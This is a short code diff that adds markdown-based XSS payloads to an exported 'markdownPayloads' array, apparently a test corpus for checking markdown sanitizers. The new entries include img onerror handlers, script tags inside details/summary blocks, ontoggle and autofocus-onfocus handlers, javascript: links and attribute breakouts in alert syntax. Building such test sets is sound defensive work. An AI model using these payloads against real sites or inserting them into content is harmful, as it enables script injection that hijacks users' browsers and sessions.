@@ -179,6 +179,13 @@ export const markdownPayloads = [
   `***<img src=x onerror=${call}>***`,
   `\\<img src=x onerror=${call}>`,
   `---\ntitle: <img src=x onerror=${call}>\n---\n`,
+  `> [!NOTE" onfocus=${call}]\n> x`,
+  `> [!NOTE]\n> <img src=x onerror=${call}>`,
+  `<details>\n<summary><img src=x onerror=${call}></summary>\n\n<script>${call}</script>\n</details>`,
+  `<details>\n<summary><b onfocus=${call} autofocus>x</b><h1><script>${call}</script></summary>\n</details>`,
+  `<details open ontoggle=${call}>\n<summary onclick=${call}>x</summary>\n</details>`,
+  `<details><summary>[x](javascript:${call})</summary>\n</details></details>\n</section></main>`,
+  `# <img src=x onerror=${call}>" onfocus=${call} autofocus\n\n`.repeat(60),
 ]
 
 /** Cells, members and names that run a script on a page which trusts tables or JSON. */
